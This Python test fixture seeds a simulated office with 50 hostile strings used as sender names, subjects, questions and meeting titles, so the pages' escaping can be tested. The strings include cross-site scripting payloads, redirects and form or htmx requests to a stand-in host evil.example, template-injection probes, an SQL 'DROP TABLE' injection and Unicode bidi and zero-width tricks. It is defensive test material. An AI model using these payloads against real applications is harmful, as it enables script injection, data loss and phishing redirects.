"""An office whose clients write 200 hostile names, subjects, questions and meeting titles, for the tests of every page."""

from __future__ import annotations

from datetime import timedelta
from email.header import Header
from pathlib import Path

from office import DANA, Office
from week import at

from daemon.commands.sync import read_sources

NOW = at(2, 9)
RAN = "window.ran = (window.ran || 0) + 1"
CODE = (
    f"<script>{RAN}</script>",
    f"<img src=x onerror='{RAN}'>",
    f"<svg onload='{RAN}'>",
    f'"><script>{RAN}</script>',
    f"' onmouseover='{RAN}' x='",
    f'" autofocus onfocus="{RAN}" x="',
    f"</textarea></title></style><script>{RAN}</script>",
    f"javascript:{RAN}",
    f"<a href='javascript:{RAN}'>press</a>",
    f"<iframe srcdoc='<script>{RAN}</script>'></iframe>",
    f"<details open ontoggle='{RAN}'>",
    f"<body onload='{RAN}'>",
    f"<form action='https://evil.example'><button>{RAN}</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<style>*{display:none}</style>",
    "<div hx-get='https://evil.example' hx-trigger=load>",
    "<div id=undo hx-swap-oob=true>",
    "<input type=hidden name=csrf_token value=x>",
    "{{ 7*7 }} {% raw %} {{ config }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "&lt;script&gt; &#60;script&#62; %3Cscript%3E",
    "]]> <!-- <![CDATA[ --> <!doctype html>",
    "'; DROP TABLE decisions; --",
    "%s %(what)s %d {0} {what}",
)
LAYOUT = (
    "W" * 3000,
    "a" * 400 + "." + "b" * 400,
    "\u202e" + "reversed" + "\u202d",
    "\u2066isolated\u2069 \u200f\u200e",
    "z" + "\u0300" * 300,
    "\u200b" * 500 + "hidden",
    "\u00ad" * 300 + "soft",
    "\ufdfd" * 60,
    "👩‍👩‍👧‍👦" * 80,
    "🏳️‍🌈" * 90,
    "漢字" * 400,
    "ا" * 600,
    "ᄀ" * 500,
    "_" * 900,
    "-" * 900,
    "😀" * 300,
    "\u3000" * 200 + "wide",
    "I\u0307" * 200,
    "ﷺ" * 100,
    "\ufffd" * 200,
    "\u202e\u2066" * 100,
    "x" * 43 + " " + "y" * 43,
    "/".join(["path"] * 300),
    "https://evil.example/" + "q" * 900,
)
PAYLOADS = (*CODE, *LAYOUT)  # 50; each stands as a name, a subject, a question and a meeting's title


def hostile_office(folder: Path, *, meetings: bool = True) -> Office:
    """Return an office that has read all of it; without `meetings` nothing answers the questions, which fall due."""
    office = Office(folder)
    config = office.config.read_text("utf-8").replace(
        "name: Birch GmbH", "name: \"<img src=x onerror='window.ran=1'> & “Birch” GmbH\""
    )
    office.config.write_text(config, "utf-8")
    for n, words in enumerate(PAYLOADS):
        came = at(0, 8) + timedelta(minutes=n)
        name, subject = (Header(words, "utf-8", maxlinelen=70).encode() for _ in range(2))
        domain = "acme.example" if n % 2 else "birch.example"
        office.mail(
            came,
            f"{name} <person{n}@{domain}>",
            DANA,
            f"Hello,\r\n\r\n{words}\r\n\r\nCan you send me the quote {words} by Wednesday noon?",
            subject=subject,
            name=f"h{n}",
        )
        if meetings:
            office.event(f"meeting{n}", at(2, 10) + timedelta(minutes=5 * n), words, with_=f"person{n}@{domain}", minutes=5)
    with office.app() as app:
        read_sources(app, NOW)
    return office
